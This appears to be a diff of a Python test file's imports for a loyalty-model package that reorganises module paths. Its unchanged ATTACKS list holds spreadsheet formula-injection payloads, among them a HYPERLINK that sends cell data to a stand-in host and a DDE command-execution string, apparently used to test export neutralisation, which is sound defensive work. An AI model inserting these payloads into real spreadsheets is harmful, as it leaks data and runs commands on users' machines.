@@ -10,11 +10,11 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from loyalty_model import sample
-from loyalty_model.exports import actions_csv, neutralise, results_csv, results_xlsx
+from loyalty_model.assessment.scoring import Assessment, assess
 from loyalty_model.i18n import t
 from loyalty_model.model import Model
-from loyalty_model.scoring import Assessment, assess
+from loyalty_model.takeaways.exports import actions_csv, neutralise, results_csv, results_xlsx
+from loyalty_model.workshop import sample
 
 ATTACKS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click me")', "+1+2", "-2+3",
            "@SUM(1,2)", "\t=1+1", "=cmd|' /C calc'!A0"]
